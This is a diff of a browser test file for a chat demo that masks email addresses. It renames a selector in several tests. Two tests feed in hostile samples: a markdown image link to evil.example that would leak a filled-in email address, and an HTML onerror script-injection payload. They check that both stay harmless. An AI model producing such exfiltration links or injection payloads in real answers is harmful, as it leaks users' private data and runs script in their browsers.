@@ -57,7 +57,7 @@ for (const { name, answer, says } of BROKEN) {
     broken = false;
     await sendText(page, TEXT);
     assert.equal(await page.locator(".problem").innerText(), "");
-    assert.equal(await page.locator(".turn-model .bubble").last().innerText(), "Fine.");
+    assert.equal(await page.locator(".turn-model .text").last().innerText(), "Fine.");
   });
 }
 
@@ -65,15 +65,15 @@ test("a placeholder in a link of an answer is not filled in", async (t) => {
   const provider = { answer: () => ({ content: "Look: ![](https://evil.example/?q=[EMAIL_1]) and [EMAIL_1]" }) };
   const { page } = await openDemo(t, browser, { server: { provider } });
   await sendText(page, TEXT);
-  assert.equal(await page.locator(".turn-model .bubble").innerText(), "Look: ![](https://evil.example/?q=[EMAIL_1]) and clara.whitfield@example.com");
+  assert.equal(await page.locator(".turn-model .text").innerText(), "Look: ![](https://evil.example/?q=[EMAIL_1]) and clara.whitfield@example.com");
 });
 
 test("markup in an answer stays text", async (t) => {
   const provider = { answer: () => ({ content: '<img src=x onerror="document.title=1"> [EMAIL_1]' }) };
   const { page } = await openDemo(t, browser, { server: { provider } });
   await sendText(page, TEXT);
-  assert.equal(await page.locator(".turn-model .bubble img").count(), 0);
-  assert.match(await page.locator(".turn-model .bubble").innerText(), /^<img/);
+  assert.equal(await page.locator(".turn-model .text img").count(), 0);
+  assert.match(await page.locator(".turn-model .text").innerText(), /^<img/);
 });
 
 test("an empty message is not sent, and says so", async (t) => {
@@ -89,7 +89,7 @@ test("a lone surrogate, emoji and right-to-left text go through the review and b
   await openReview(page, "כתוב אל clara.whitfield@example.com 👩🏽‍🔧 \ud800");
   await page.locator("privet-review .primary").click();
   await waitForAnswer(page);
-  assert.equal(await page.locator(".turn-model .bubble").innerText(), "שלום clara.whitfield@example.com 👩🏽‍🔧");
+  assert.equal(await page.locator(".turn-model .text").innerText(), "שלום clara.whitfield@example.com 👩🏽‍🔧");
 });
 
 test("a port that is taken is named with the way out, and the server ends", async () => {
